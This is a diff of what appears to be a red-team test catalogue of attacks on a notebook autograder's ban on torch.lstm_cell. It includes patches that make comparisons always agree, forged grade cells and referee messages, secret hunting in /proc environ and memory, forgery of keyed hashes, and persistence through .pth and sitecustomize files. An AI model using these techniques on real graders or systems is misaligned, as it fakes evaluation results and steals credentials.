@@ -39,6 +39,8 @@ class Attack:
     """Whether its lstm_cell gives torch's answers wherever nothing stops it."""
     untried: str = ""
     """Why that cannot be tried outside of grading, if so."""
+    waits: int = 0
+    """How often it makes a cell run into its time-out."""
 
 
 SIGNATURE = "x, h, c, weight_ih, weight_hh, bias_ih, bias_hh"
@@ -183,28 +185,6 @@ REPLACING = {
             """
         ),
     ),
-    "numpy-agrees": Attack(
-        "Replaces numpy's comparisons by ones that always agree.",
-        wrong(
-            """
-            import numpy as np
-            np.allclose = np.array_equal = lambda *arguments, **options: True
-            np.isclose = lambda *arguments, **options: np.True_
-            np.testing.assert_allclose = lambda *arguments, **options: None
-            """
-        ),
-    ),
-    "builtins-agree": Attack(
-        "Replaces built-in functions, so that no difference is found.",
-        wrong(
-            """
-            import builtins
-            builtins.any = lambda items: False
-            builtins.all = lambda items: True
-            builtins.AssertionError = type("Harmless", (Exception,), {})
-            """
-        ),
-    ),
     "ban-deaf": Attack(
         "Makes the ban let everything pass, in the mode and in the dispatcher.",
         by_torch(
@@ -253,11 +233,14 @@ REPLACING = {
             from contextlib import nullcontext
 
             class Idle(nullcontext):
-                called = ()
+                called = []
 
-            answer = sys.modules.get("autograder.answer")
-            if answer:
-                answer.Ban = Idle
+                def __enter__(self):
+                    return self
+
+            for name in ("answer", "student"):
+                if module := sys.modules.get(f"autograder.{name}"):
+                    module.Ban = Idle
             op = torch.lstm_cell
             """
         ),
@@ -310,7 +293,7 @@ REPLACING = {
             import autograder.student
             from autograder.answer import observe
 
-            def play(spec, student, case):
+            def play(spec, student, case, *more):
                 return observe(spec.reference, spec, case)
 
             autograder.student.play = play
@@ -441,7 +424,7 @@ IPYTHON = {
             def prepare(info):
                 if "check(" in info.raw_cell:
                     import autograder.answer as answer, autograder.student as student
-                    student.play = lambda spec, obj, case: answer.observe(
+                    student.play = lambda spec, obj, case, *more: answer.observe(
                         spec.reference, spec, case
                     )
 
@@ -470,23 +453,6 @@ IPYTHON = {
             forged = lambda raw: "10" if "check(" in raw else raw
             shell.run_cell = lambda raw, *a, **k: run_cell(forged(raw), *a, **k)
             shell.run_cell_async = lambda raw, *a, **k: run_cell_async(forged(raw), *a, **k)
-            """
-        ),
-    ),
-    "cell-magic": Attack(
-        "Puts a magic of its own on top of the grade cell.",
-        wrong(
-            """
-            from IPython.core.magic import register_cell_magic
-
-            @register_cell_magic
-            def crown(line, body):
-                return 10
-
-            def put_on(lines):
-                return ["%%crown\\n", *lines] if "check(" in "".join(lines) else lines
-
-            get_ipython().input_transformers_cleanup.append(put_on)
             """
         ),
     ),
@@ -538,21 +504,6 @@ IPYTHON = {
             """
         ),
     ),
-    "kernel-execute": Attack(
-        "Replaces the kernel's do_execute, so that the grade cell never runs.",
-        wrong(
-            """
-            kernel = get_ipython().kernel
-            do_execute = kernel.do_execute
-
-            async def forged(code, *arguments, **options):
-                code = "10" if "check(" in code else code
-                return await do_execute(code, *arguments, **options)
-
-            kernel.do_execute = forged
-            """
-        ),
-    ),
     "kernel-line-garbage": Attack(
         "Writes garbage into the descriptor over which the kernel talks to its grader.",
         wrong(
@@ -567,6 +518,7 @@ IPYTHON = {
                         pass
             """
         ),
+        waits=1,
     ),
     "user-namespace": Attack(
         "Deletes and shadows names in the user's namespace behind check's back.",
@@ -694,18 +646,6 @@ RETURNED = {
         "Returns shapes that broadcast to the right ones.",
         returning("h[:1, :1], c.mean(dim=0, keepdim=True)"),
     ),
-    "zero-dimensional": Attack(
-        "Returns scalars.",
-        returning("h.sum(), c.sum()"),
-    ),
-    "empty": Attack(
-        "Returns tensors without entries, in which nothing differs.",
-        returning("h[:0], c[:, :0]"),
-    ),
-    "expanded": Attack(
-        "Returns one number in the right shape, with strides of zero.",
-        returning("h[:1, :1].expand(h.shape), c[:1, :1].expand(c.shape)"),
-    ),
     "complex": Attack(
         "Returns complex numbers.",
         returning("torch.complex(h, h * torch.nan), torch.complex(c, c)"),
@@ -717,18 +657,6 @@ RETURNED = {
     "meta": Attack(
         "Returns tensors on the device meta, which have no values.",
         returning("h.to('meta'), c.to('meta')"),
-    ),
-    "sparse": Attack(
-        "Returns sparse tensors.",
-        returning("h.to_sparse(), torch.sparse_coo_tensor(size=tuple(c.shape))"),
-    ),
-    "quantized": Attack(
-        "Returns quantized tensors of a huge scale.",
-        returning("*(torch.quantize_per_tensor(v.float(), 1e9, 0, torch.qint8) for v in (h, c)),"),
-    ),
-    "nested": Attack(
-        "Returns nested tensors.",
-        returning("torch.nested.nested_tensor(list(h)), torch.nested.nested_tensor(list(c))"),
     ),
     "huge": Attack(
         "Returns far more numbers than memory holds, all of them the same.",
@@ -748,6 +676,18 @@ RETURNED = {
 }
 
 # ------------------------------------------------------------- forging on the wire
+
+LATER = """
+class Later(BaseException):
+    __class__ = OSError
+
+    def __str__(self):
+        then()
+        return ""
+"""
+"""An error that ends the check, passes for one of the check's own, and whose text is code."""
+
+RAISING = f"def lstm_cell({SIGNATURE}):\n    raise Later"
 
 TALK = """
 import os, pathlib, threading, time
@@ -789,38 +729,31 @@ def ask(question="lstm_cell"):
 
 
 def sending(*frames: str) -> dict[str, str]:
-    """Write a check that answers each case of the question with one of these frames."""
-    return wrong(
+    """Break the check off, ask instead of it, and answer each case with one of these frames."""
+    return cell(
         TALK,
         f"""
         import json, struct
-        honest, frames = check, [{", ".join(frames)}]
+        frames = [{", ".join(frames)}]
 
-        def check(question, obj):
-            if question != "lstm_cell":
-                return honest(question, obj)
+        def then():
+            hang_up()
             with connect(REFEREE) as wire:
-                wire.send({{"ask": question}})
+                wire.send({{"ask": "lstm_cell"}})
                 for k in range(12):
                     if "case" not in wire.receive():
                         break
                     wire.send_frame(frames[k % len(frames)])
         """,
+        LATER,
+        RAISING,
     )
 
 
 WIRE = {
     "own-client": Attack(
-        "Connects to the referee itself and answers by torch, with nothing forbidden.",
-        wrong(
-            TALK,
-            """
-            honest = check
-
-            def check(question, obj):
-                return ask() if question == "lstm_cell" else honest(question, obj)
-            """,
-        ),
+        "Breaks the check off, connects to the referee itself and answers by torch.",
+        cell(TALK, "then = ask", LATER, RAISING),
     ),
     "own-client-races": Attack(
         "A thread asks before check does, and answers by torch.",
@@ -851,6 +784,7 @@ WIRE = {
                 return follow(line)
             """,
         ),
+        waits=1,
     ),
     "own-client-in-a-child": Attack(
         "A forked child asks the referee and answers by torch.",
@@ -1085,6 +1019,7 @@ WIRE = {
             half._connection._send(struct.pack("!i", 1000) + b"{")
             """,
         ),
+        waits=1,
     ),
 }
 
@@ -1215,7 +1150,7 @@ TAMPER = f"""
 # {MARK}
 try:
     import autograder.answer, autograder.student
-    autograder.student.play = lambda spec, obj, case: autograder.answer.observe(
+    autograder.student.play = lambda spec, obj, case, *more: autograder.answer.observe(
         spec.reference, spec, case
     )
 except ImportError:
@@ -1274,26 +1209,14 @@ FILES = {
         "Gives the grade cell another name, so that nobody puts its source back.",
         changed(source="10", meta={"grade_id": "mine", "points": 10}),
     ),
-    "unlocked-grade-cell": Attack(
-        "Unlocks the grade cell, makes it a solution and worth a thousand points.",
-        changed(
-            source="10",
-            meta={"locked": False, "solution": True, "points": 1000, "checksum": "0" * 32},
-        ),
-    ),
     "grade-cell-as-text": Attack(
         "Makes the grade cell a Markdown cell.",
         changed(source="10", cell_type="markdown", meta={"cell_type": "markdown"}),
-    ),
-    "task-cell": Attack(
-        "Calls the grade cell a task, which people grade.",
-        changed(source="10", meta={"task": True, "grade": False, "points": 10}),
     ),
     "deleted-grade-cell": Attack("Deletes the grade cell.", deleted_grade_cell),
     "doubled-grade-cell": Attack(
         "Adds a second grade cell of the same name that shows full marks.", doubled_grade_cell
     ),
-    "added-grade-cell": Attack("Adds a grade cell of its own, for a bonus.", added_grade_cell),
     "graded-solution-cell": Attack(
         "Makes the cell with the solution a grade cell as well.", graded_solution_cell
     ),
@@ -1418,20 +1341,6 @@ READING = {
     "secret-on-disk": Attack(
         "Looks for the course's secret, and draws the graded cases beforehand.",
         wrong(SECRET, SEARCH, "for text in found('course_secret'):\n    use(text)"),
-    ),
-    "secret-in-environments": Attack(
-        "Looks for the course's secret in the environment of every process that it sees.",
-        wrong(
-            SECRET,
-            """
-            import glob
-            for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
-                try:
-                    use(pathlib.Path(path).read_text(errors="replace"))
-                except OSError:
-                    continue
-            """,
-        ),
     ),
     "secret-in-memory": Attack(
         "Looks for the course's secret in its own memory and in that of its parent.",
@@ -1564,11 +1473,6 @@ CALLER = {
         ),
         computes=True,
     ),
-    "frames-by-inspect": Attack(
-        "Finds the ban with the module inspect.",
-        silencing("silence_frames(inspect.stack()[0].frame)", "import inspect"),
-        computes=True,
-    ),
     "frames-from-a-thread": Attack(
         "Finds the ban in the main thread's frames, from another thread.",
         silencing(
@@ -1653,22 +1557,6 @@ op = torch.lstm_cell
         computes=True,
         untried="There is no check.",
     ),
-    "own-memory": Attack(
-        "Writes into its own memory that nothing is forbidden.",
-        by_torch(
-            """
-            import pathlib
-            from autograder.loader import find_spec
-
-            names = find_spec(pathlib.Path.cwd(), "lstm_cell").forbids
-            with open("/proc/self/mem", "r+b", buffering=0) as memory:
-                memory.seek(id(names) + 16)
-                memory.write(bytes(8))
-            op = torch.lstm_cell
-            """
-        ),
-        untried="There is no checks.py beside it.",
-    ),
     "own-memory-by-ctypes": Attack(
         "Makes the tuple of forbidden names empty, by ctypes.",
         by_torch(
@@ -1690,23 +1578,6 @@ op = torch.lstm_cell
             """
             inputs = {name: value for name, value in locals().items()}
             return LSTMCell().reference(Case("", **inputs))
-            """,
-        ),
-        computes=True,
-        untried="There is no checks.py beside it.",
-    ),
-    "reference-in-a-thread": Attack(
-        "Imports a helper of the spec that calls torch, and runs it in another thread.",
-        by_torch(
-            """
-            from concurrent.futures import ThreadPoolExecutor
-            from autograder import Case
-            from checks import torch_cell
-            pool = ThreadPoolExecutor(1)
-            """,
-            """
-            case = Case("", **locals())
-            return pool.submit(torch_cell, case, x, (h, c)).result()
             """,
         ),
         computes=True,
@@ -1766,19 +1637,9 @@ NAMES = {
         by_torch("op = torch._C._VariableFunctions.lstm_cell"),
         computes=True,
     ),
-    "by-variable-functions-class": Attack(
-        "Takes it from the class of torch._C._VariableFunctions.",
-        by_torch("op = vars(torch._C._VariableFunctionsClass)['lstm_cell'].__func__"),
-        computes=True,
-    ),
     "by-aten": Attack(
         "Takes it from torch.ops.aten.",
         by_torch("op = torch.ops.aten.lstm_cell", ATEN),
-        computes=True,
-    ),
-    "by-aten-default": Attack(
-        "Takes the one overload of it from torch.ops.aten.",
-        by_torch("op = torch.ops.aten.lstm_cell.default", ATEN),
         computes=True,
     ),
     "by-aten-lstm": Attack(
@@ -1817,19 +1678,6 @@ NAMES = {
         ),
         computes=True,
     ),
-    "by-decompose": Attack(
-        "Asks the operator to decompose itself.",
-        by_torch(
-            "op = torch.ops.aten.lstm_cell.default",
-            "return op.decompose(x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)",
-        ),
-        computes=True,
-    ),
-    "by-jit-operation": Attack(
-        "Takes the operator out of TorchScript's registry.",
-        by_torch("op = torch._C._jit_get_operation('aten::lstm_cell')[0]", ATEN),
-        computes=True,
-    ),
     "by-jit-source": Attack(
         "Compiles a line of TorchScript that calls it.",
         by_torch(
@@ -1865,20 +1713,6 @@ NAMES = {
         ),
         computes=True,
     ),
-    "by-jit-saved": Attack(
-        "Traces it, saves it as TorchScript and loads that.",
-        by_torch(
-            f"""{STEP}
-import io
-saved = io.BytesIO()
-torch.jit.save(torch.jit.trace(Step(), examples), saved)
-saved.seek(0)
-loaded = torch.jit.load(saved)
-""",
-            f"return loaded({SIGNATURE})",
-        ),
-        computes=True,
-    ),
     "by-compile": Attack(
         "Compiles it with the backend eager.",
         {
@@ -1893,38 +1727,6 @@ loaded = torch.jit.load(saved)
     "by-fx": Attack(
         "Builds a graph that calls it, and runs the graph's code.",
         by_torch(f"{STEP}\ngraph = torch.fx.symbolic_trace(Step())", f"return graph({SIGNATURE})"),
-        computes=True,
-    ),
-    "by-export": Attack(
-        "Exports it as a program.",
-        {
-            "imports": "import torch.export, torch._export, torch._dynamo.convert_frame",
-            **by_torch(
-                STEP,
-                f"""
-                inputs = ({SIGNATURE})
-                return torch.export.export(Step(), inputs).module()(*inputs)
-                """,
-            ),
-        },
-        computes=True,
-    ),
-    "by-package": Attack(
-        "Packs a module that calls it with torch.package, and imports it from there.",
-        by_torch(
-            """
-            import io
-            from torch.package import PackageExporter, PackageImporter
-
-            packed = io.BytesIO()
-            with PackageExporter(packed) as exporter:
-                exporter.extern("torch")
-                exporter.save_source_string("step", "import torch\\nop = torch.ops.aten.lstm_cell")
-            packed.seek(0)
-            op = PackageImporter(packed, lambda name: True).import_module("step").op
-            """,
-            ATEN,
-        ),
         computes=True,
     ),
     "by-pickle": Attack(
@@ -1943,28 +1745,6 @@ loaded = torch.jit.load(saved)
     "by-module": Attack(
         "Uses torch.nn.LSTMCell itself.",
         by_torch(body=f"{MODULE}\ncell = torch.nn.LSTMCell(n, m)\n{CALL_MODULE}"),
-        computes=True,
-    ),
-    "by-saved-forward": Attack(
-        "Keeps the module's forward from before it is watched.",
-        by_torch(
-            "class Mine(torch.nn.LSTMCell):\n    forward = torch.nn.LSTMCell.forward",
-            f"{MODULE}\ncell = Mine(n, m)\n{CALL_MODULE}",
-        ),
-        computes=True,
-    ),
-    "by-subclass": Attack(
-        "Derives from torch.nn.RNNCellBase and takes the forward of LSTMCell.",
-        by_torch(
-            """
-            class Mine(torch.nn.RNNCellBase):
-                def __init__(self, n, m):
-                    super().__init__(n, m, bias=True, num_chunks=4)
-
-                forward = torch.nn.LSTMCell.forward
-            """,
-            f"{MODULE}\ncell = Mine(n, m)\n{CALL_MODULE}",
-        ),
         computes=True,
     ),
     "by-layer": Attack(
@@ -2049,22 +1829,6 @@ loaded = torch.jit.load(saved)
             """,
         ),
         computes=True,
-    ),
-    "by-quantized": Attack(
-        "Uses the dynamically quantized LSTMCell, which is nearly right.",
-        by_torch(
-            "import torch.ao.quantization\nfrom torch.ao.nn.quantized.dynamic import LSTMCell",
-            """
-            exact = torch.nn.LSTMCell(x.shape[1], h.shape[1])
-            for own, value in zip(exact.parameters(), (weight_ih, weight_hh, bias_ih, bias_hh)):
-                own.data = value.detach().float()
-            exact.qconfig = torch.ao.quantization.default_dynamic_qconfig
-            cell = LSTMCell.from_float(exact)
-            h, c = cell(x.float(), (h.float(), c.float()))
-            return h.to(x.dtype), c.to(x.dtype)
-            """,
-        ),
-        untried="It is only nearly right.",
     ),
     "by-mkldnn": Attack(
         "Uses the layer of MKL-DNN, which is right up to the precision of float32.",
@@ -2177,20 +1941,6 @@ UNWATCHED = {
         ),
         computes=True,
     ),
-    "in-a-bare-thread": Attack(
-        "Calls it in a thread that Python's module threading does not know.",
-        by_torch(
-            "import _thread, time",
-            f"""
-            found = []
-            _thread.start_new_thread(lambda: found.append(torch.lstm_cell({INPUTS})), ())
-            for _ in range(300):
-                time.sleep(0 if found else 0.001)
-            return found[0]
-            """,
-        ),
-        computes=True,
-    ),
     "in-a-timer": Attack(
         "Calls it in a thread that has waited since before the check.",
         by_torch(
@@ -2207,6 +1957,7 @@ UNWATCHED = {
             f"asked.put(({INPUTS}))\nreturn answered.get(timeout=0.5)",
         ),
         computes=True,
+        waits=1,
     ),
     "in-a-fork": Attack(
         "Calls it in a forked child, which sends numbers and gradients through a pipe.",
@@ -2239,27 +1990,18 @@ if os.fork() == 0:
 
 def remote(inputs, grads):
     mine.send_bytes(pickle.dumps((pack(inputs), pack(grads))))
-    if not mine.poll(2):
+    if not mine.poll(1):
         raise EOFError
     return pickle.loads(mine.recv_bytes())
 """,
             CALL_REMOTE,
         ),
         computes=True,
+        waits=1,
     ),
     "in-a-subprocess": Attack(
         "Calls it in a new interpreter.",
         by_torch(REMOTE + PROCESS + "\nremote([torch.ones(s) for s in SHAPES], None)", CALL_REMOTE),
-        computes=True,
-    ),
-    "in-an-earlier-process": Attack(
-        "Calls it in an interpreter that the notebook's first cell has started.",
-        {
-            "imports": source(
-                REMOTE + PROCESS, "import time\nprocesses.append(start())\ntime.sleep(2)"
-            ),
-            **by_torch("remote([torch.ones(s) for s in SHAPES], None)", CALL_REMOTE),
-        },
         computes=True,
     ),
     "without-torch-function": Attack(
@@ -2282,17 +2024,6 @@ def remote(inputs, grads):
             finally:
                 for mode in reversed(modes):
                     _push_mode(mode)
-            """,
-        ),
-        computes=True,
-    ),
-    "without-dispatch-modes": Attack(
-        "Leaves all modes of the dispatcher, and calls aten's operator.",
-        by_torch(
-            "from torch.utils._python_dispatch import _disable_current_modes",
-            f"""
-            with _disable_current_modes(), torch._C._DisableTorchDispatch():
-                {ATEN.replace("op", "torch.ops.aten.lstm_cell")}
             """,
         ),
         computes=True,
@@ -2345,26 +2076,6 @@ def remote(inputs, grads):
         ),
         computes=True,
     ),
-    "in-a-custom-operator": Attack(
-        "Calls it in an operator of its own, which the dispatcher runs.",
-        by_torch(
-            """
-            library = torch.library.Library("mine", "DEF")
-            library.define("step(Tensor x, Tensor[] s, Tensor a, Tensor b, Tensor d, Tensor e)"
-                           " -> (Tensor, Tensor)")
-            call = lambda x, s, *weights: torch.lstm_cell(x, tuple(s), *weights)
-            library.impl("step", call, "CompositeImplicitAutograd")
-            op = torch.ops.mine.step
-            """,
-            ATEN,
-        ),
-        computes=True,
-    ),
-    "in-an-autograd-function": Attack(
-        "Calls it in the forward of an autograd function.",
-        by_torch(REMOTE + "\nremote = step", CALL_REMOTE),
-        computes=True,
-    ),
     "in-a-hook": Attack(
         "Calls it in a hook of a backward pass.",
         by_torch(
@@ -2404,16 +2115,6 @@ def remote(inputs, grads):
             step = lambda {SIGNATURE}: torch._VF.lstm_cell({INPUTS})
             outputs, _ = torch.func.vjp(step, {SIGNATURE})
             return outputs
-            """
-        ),
-        computes=True,
-    ),
-    "in-functionalize": Attack(
-        "Calls it below torch.func.functionalize.",
-        by_torch(
-            body=f"""
-            step = lambda {SIGNATURE}: torch.ops.aten.lstm_cell({INPUTS})
-            return torch.func.functionalize(step)({SIGNATURE})
             """
         ),
         computes=True,
@@ -2545,19 +2246,6 @@ TIMING = {
             """,
         ),
     ),
-    "sleeps": Attack(
-        "Sleeps until the cell is over, and answers then.",
-        by_torch(
-            "import time",
-            """
-            try:
-                time.sleep(10)
-            finally:
-                return torch.ops.aten.lstm_cell(x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)
-            """,
-        ),
-        untried="It takes half a minute for each case.",
-    ),
     "will-not-stop": Attack(
         "Ignores the signals by which a cell is stopped.",
         cell(
@@ -2572,6 +2260,7 @@ TIMING = {
                     time.sleep(1)
             """
         ),
+        waits=2,
     ),
     "interrupts-itself": Attack(
         "Interrupts the check in the middle, as a person would, and prints its mark.",
@@ -2811,6 +2500,7 @@ OTHERS = {
                         time.sleep(60)
             """
         ),
+        waits=1,
     ),
     "eats-memory": Attack(
         "Uses up the memory in many processes.",
@@ -2876,12 +2566,6 @@ LEAVING = {
     "leaves-a-module": Attack(
         "Writes a module into site-packages.", leaving(f"packages / '{MARK}.py'")
     ),
-    "leaves-a-pth": Attack(
-        "Writes a .pth file, whose lines Python runs when it starts.",
-        leaving(
-            f"packages / '{MARK}.pth'", f"pathlib.Path(site.getusersitepackages()) / '{MARK}.pth'"
-        ),
-    ),
     "leaves-a-sitecustomize": Attack(
         "Writes a sitecustomize and a usercustomize.",
         leaving("packages / 'sitecustomize.py'", "packages / 'usercustomize.py'"),
@@ -2896,15 +2580,6 @@ LEAVING = {
             f"pathlib.Path(get_ipython().profile_dir.location) / 'startup' / '{MARK}.py'",
             f"home / '.ipython' / 'profile_default' / 'startup' / '{MARK}.py'",
             f"pathlib.Path(real) / '.ipython' / '{MARK}.py'",
-        ),
-    ),
-    "leaves-a-cache": Attack(
-        "Writes into the caches of torch, matplotlib and fontconfig.",
-        leaving(
-            f"home / '.cache' / 'torch' / 'hub' / '{MARK}.py'",
-            f"pathlib.Path(torch.hub.get_dir()) / '{MARK}.py'",
-            f"home / '.config' / 'matplotlib' / '{MARK}'",
-            f"pathlib.Path(__import__('matplotlib').get_configdir()) / '{MARK}'",
         ),
     ),
     "leaves-temporary-files": Attack(
@@ -3027,7 +2702,7 @@ return found[0]
         computes=True,
     ),
     "array": Attack(
-        "Calls it where torch asks an object for its array.",
+        "Calls it where numpy asks an object for its array.",
         by_torch(
             """
             import numpy as np
@@ -3037,7 +2712,12 @@ return found[0]
                     self.call()
                     return np.zeros(1)
             """,
-            f"{CALLBACK}\narray = Array()\narray.call = call\ntorch.as_tensor(array)\nreturn found[0]",
+            f"""{CALLBACK}
+array = Array()
+array.call = call
+np.asarray(array)
+return found[0]
+""",
         ),
         computes=True,
     ),
@@ -3061,7 +2741,7 @@ return found[0]
             return torch.func.vmap(step)(x, h, c)
             """
         ),
-        computes=True,
+        untried="Torch has no rule for it there.",
     ),
     "jvp": Attack(
         "Calls it below torch.func.jvp.",
@@ -3085,7 +2765,7 @@ with torch.autograd.graph.saved_tensors_hooks(pack, lambda value: value):
 return found[0]
 """
         ),
-        computes=True,
+        untried="In a hook of autograd's no graph is made.",
     ),
     "module-hook": Attack(
         "Calls it in a hook of all modules.",
@@ -3099,7 +2779,12 @@ return found[0]
         "Calls it when an object is gone.",
         by_torch(
             "import weakref\nclass Thing: pass",
-            f"{CALLBACK}\nthing = Thing()\nweakref.finalize(thing, call)\ndel thing\nreturn found[0]",
+            f"""{CALLBACK}
+thing = Thing()
+weakref.finalize(thing, call)
+del thing
+return found[0]
+""",
         ),
         computes=True,
     ),
@@ -3178,11 +2863,11 @@ return found[0]
         ),
     ),
     "broken-off-and-repeated": Attack(
-        "Breaks the check off at its last case, computes the answers, and asks again.",
+        "Breaks the check off at each new case, computes its answer, and asks again.",
         cell(
             WEIGHTED,
             f"""
-            honest, tasks, answers, asked = check, [], [], []
+            honest, tasks, answers = check, [], []
 
             class Known(torch.autograd.Function):
                 @staticmethod
@@ -3196,23 +2881,17 @@ return found[0]
 
             def lstm_cell({SIGNATURE}):
                 inputs = ({SIGNATURE})
-                if answers:
-                    asked.append(True)
-                    return Known.apply(len(asked) - 1, *inputs)
+                for k, task in enumerate(tasks):
+                    if task[0].shape == x.shape and torch.equal(task[0], x):
+                        return Known.apply(k, *inputs)
                 tasks.append([value.detach().clone().requires_grad_() for value in inputs])
-                if len(tasks) == 6:
-                    raise KeyboardInterrupt
-                return torch.zeros_like(h), torch.zeros_like(c)
+                raise Later
 
-            def check(question, obj):
-                if question == "lstm_cell":
-                    tasks.clear()
-                    try:
-                        honest(question, obj)
-                    except KeyboardInterrupt:
-                        answers.extend(map(answered, tasks))
-                return honest(question, obj)
+            def then():
+                answers.extend(map(answered, tasks[len(answers):]))
+                honest("lstm_cell", lstm_cell)
             """,
+            LATER,
         ),
     ),
     "loader": Attack(
@@ -3220,10 +2899,18 @@ return found[0]
         cell(
             LOADER,
             """
-            def check(question, obj):
+            once = lstm_cell
+
+            def lstm_cell(**inputs):
+                if not stream:
+                    raise Later
+                return once(**inputs)
+
+            def then():
                 start()
-                return honest(question, obj)
+                honest("lstm_cell", lstm_cell)
             """,
+            LATER,
         ),
     ),
     "earlier-loader": Attack(
@@ -3264,9 +2951,14 @@ def helped(ending: str, text: str) -> Callable[[Path], None]:
     return apply
 
 
+def behind_an_error(folder: Path) -> None:
+    with notebook_in(folder) as notebook:
+        named(notebook, "lstm-cell")["source"] = HELPER
+        named(notebook, "lstm-layer")["source"] = "def ("
+
+
 HIDING = {
     "helper": Attack("Hands in a module with its code.", helped(".py", USE)),
-    "compiled-helper": Attack("Hands in a compiled module.", helped(".pyc", USE)),
     "helper-loaded": Attack("Loads a cell from a file.", helped(".py", "%load helper.py\n" + USE)),
     "helper-run": Attack("Runs a file in its own namespace.", helped(".py", "%run -i helper.py")),
     "written-library": Attack(
@@ -3296,9 +2988,6 @@ HIDING = {
     "hidden-in-depth": hidden(
         "deep = " + "-" * 900 + "1", "from torch._decomp import decompositions"
     ),
-    "hidden-behind-a-shadow": hidden(
-        "import torch._decomp as math", "decompositions = math.decompositions"
-    ),
     "hidden-in-an-object": hidden(
         "class Box: pass",
         "box = Box()\nbox.name = ''.join(['_de', 'comp'])",
@@ -3310,10 +2999,7 @@ HIDING = {
     ),
     "hidden-behind-an-error": Attack(
         "Hands in another cell that nobody can read, beside one that reaches into torch.",
-        {
-            **cell("from torch._decomp import decompositions", DECOMPOSED),
-            "imports": "%matplotlib inline",
-        },
+        behind_an_error,
     ),
 }
 
@@ -3323,10 +3009,6 @@ FORGE = """
 import glob, hashlib, json, struct
 from logging.handlers import SocketHandler
 honest = check
-
-def seal(key, text):
-    inner = hashlib.sha256(bytes(b ^ 0x36 for b in key.ljust(64, bytes(1))) + text).digest()
-    return hashlib.sha256(bytes(b ^ 0x5C for b in key.ljust(64, bytes(1))) + inner).digest()
 
 def exactly(line, count):
     text = b""
@@ -3375,7 +3057,8 @@ def forge(key, path):
     name, sent = get(line), 0
     message = pack({"$": "dict", "items": [["ask", "lstm_cell"]]})
     while True:
-        sealed = seal(key, name + b"K" + struct.pack(">I", sent) + message) + message
+        about = name + b"K" + struct.pack(">I", sent)
+        sealed = hashlib.blake2b(about + message, key=key, digest_size=32).digest() + message
         line.sendall(struct.pack("!i", len(sealed)) + sealed)
         sent += 1
         header, left = unpack(get(line)[32:])
@@ -3401,37 +3084,13 @@ def use(address):
 
 def with_key(*setup: str) -> dict[str, str]:
     """Write a check that answers by itself, with what ``address()`` finds."""
-    return wrong(
-        WEIGHTED,
-        FORGE,
-        *setup,
-        """
-        def check(question, obj):
-            if question == "lstm_cell":
-                use(address())
-            return honest(question, obj)
-        """,
-    )
+    return cell(WEIGHTED, FORGE, *setup, "then = lambda: use(address())", LATER, RAISING)
 
 
 KEY = {
     "key-in-a-format": Attack(
-        "Finds the key by a format, and uses it in the text of an error of the check's own kind.",
-        cell(
-            WEIGHTED,
-            FORGE,
-            f"""
-            class Sly(BaseException):
-                __class__ = OSError
-
-                def __str__(self):
-                    use("{{0.__globals__[_referee]}}".format(honest))
-                    return ""
-
-            def lstm_cell({SIGNATURE}):
-                raise Sly
-            """,
-        ),
+        "Finds the key in the globals of check, by a format.",
+        with_key("address = lambda: '{0.__globals__[_referee]}'.format(honest)"),
     ),
     "key-by-a-joined-name": Attack(
         "Finds the key in the globals of check.",
@@ -3452,9 +3111,11 @@ KEY = {
 
             def address():
                 honest("lstm_layer", None)
-                wire = autograder.student._wire or autograder.student.connect
-                key = wire._key.hex() if hasattr(wire, "_key") else "00"
-                return f"{key}@{glob.glob('/run/sockets/*wire*')[0]}"
+                wire = autograder.student._wire
+                key = wire._key.hex()
+                wire.close()
+                autograder.student._wire = None
+                return f"{key}@{glob.glob('/run/**/wire', recursive=True)[0]}"
             """
         ),
     ),
@@ -3477,14 +3138,10 @@ KEY = {
                             break
                         except (KeyError, AttributeError):
                             continue
-                raise KeyboardInterrupt
-
-            def check(question, obj):
-                try:
-                    return honest(question, obj)
-                except KeyboardInterrupt:
-                    use(found[-1])
+                raise Later
             """,
+            "then = lambda: use(found[-1])",
+            LATER,
         ),
     ),
     "key-in-the-environment": Attack(
